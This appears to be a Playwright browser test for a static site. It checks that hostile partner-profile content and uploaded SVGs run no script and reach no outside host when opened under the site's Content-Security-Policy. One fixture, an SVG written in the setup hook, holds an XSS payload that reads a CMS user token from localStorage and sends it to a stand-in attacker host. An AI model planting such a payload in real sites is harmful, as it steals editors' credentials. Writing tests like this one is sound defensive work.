/**
 * The hostile corpus in Chromium: the pages built from it are opened (and
 * the directory searched for them) with the site's real Content-Security-
 * Policy; nothing may open a dialog, log the marker or reach another host.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { serveDist } from '../../scripts/serve-dist.ts';
import { buildWithPartners } from '../build-partners';
import { ATTACKER_HOST, inertCases, MARKER, wideCases } from '../hostile/corpus';
import { launchBrowser } from './browser';

const work = mkdtempSync(join(tmpdir(), 'hostile-browser-'));
let browser: Browser;
let server: Awaited<ReturnType<typeof serveDist>>;
let origin: string;

beforeAll(async () => {
  const build = buildWithPartners(
    work,
    Object.fromEntries([...inertCases, ...wideCases].map((hostile) => [hostile.slug, hostile.markdown])),
  );
  if (build.status !== 0) throw new Error(build.output);
  // An SVG that slipped past the build (which refuses it), served as the static host serves uploads.
  writeFileSync(
    join(build.dist, 'uploads/hostile-logo.svg'),
    `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${MARKER}')"><script>console.log('${MARKER}', localStorage.length); fetch('https://${ATTACKER_HOST}/?t=' + localStorage.getItem('decap-cms-user'))</script><rect width="10" height="10"/></svg>`,
  );
  server = await serveDist(build.dist);
  origin = server.url;
  browser = await launchBrowser();
}, 180_000);

afterAll(async () => {
  await browser?.close();
  await server?.close();
  rmSync(work, { recursive: true, force: true });
});

/** A page that records whatever a payload manages to do: dialogs, the marker in the console, requests elsewhere. */
async function watchedPage() {
  const context = await browser.newContext();
  const ran: string[] = [];
  const requests: string[] = [];
  context.on('request', (request) => {
    if (!request.url().startsWith(origin)) requests.push(request.url());
  });
  const page = await context.newPage();
  page.on('dialog', (dialog) => {
    ran.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('console', (message) => {
    if (message.text().includes(MARKER)) ran.push(`console: ${message.text()}`);
  });
  return { context, page, ran, requests };
}

describe('hostile content in the browser', () => {
  it('runs nothing and calls no other host, on every profile and in the directory', async () => {
    const { context, page, ran, requests } = await watchedPage();
    for (const { slug } of inertCases) {
      await page.goto(`${origin}/partners/${slug}/`);
      await page.waitForLoadState('networkidle');
      // Whatever is clickable in the profile gets clicked, in case a handler survived.
      for (const link of await page.locator('main .prose a').all()) await link.click({ trial: true });
    }
    await page.goto(`${origin}/partners/?q=hostile`);
    await page.getByRole('heading', { name: 'Hostile Script Tags' }).waitFor();
    await page.waitForLoadState('networkidle');
    expect(ran).toEqual([]);
    expect(requests).toEqual([]);
    await context.close();
  });

  it('runs nothing in an uploaded SVG opened directly, from a profile link or by its address', async () => {
    const { context, page, ran, requests } = await watchedPage();
    await page.goto(`${origin}/partners/hostile-upload-link/`);
    await page.evaluate(() => localStorage.setItem('decap-cms-user', '{"token":"secret"}'));
    await Promise.all([page.waitForURL(/hostile-logo\.svg$/), page.getByRole('link', { name: 'logo' }).click()]);
    await page.waitForLoadState('networkidle');
    await page.goto(`${origin}/uploads/hostile-logo.svg`);
    await page.waitForLoadState('networkidle');
    expect(ran).toEqual([]);
    expect(requests).toEqual([]);
    await context.close();
  });

  it.each(wideCases.map((hostile) => [hostile.what, hostile.slug] as const))(
    '%s: the profile stays as wide as a 360 px phone',
    async (_, slug) => {
      const page = await browser.newPage({ viewport: { width: 360, height: 800 } });
      await page.goto(`${origin}/partners/${slug}/`);
      const width = await page.evaluate(() => document.documentElement.scrollWidth);
      await page.close();
      expect(width).toBeLessThanOrEqual(360);
    },
  );
});
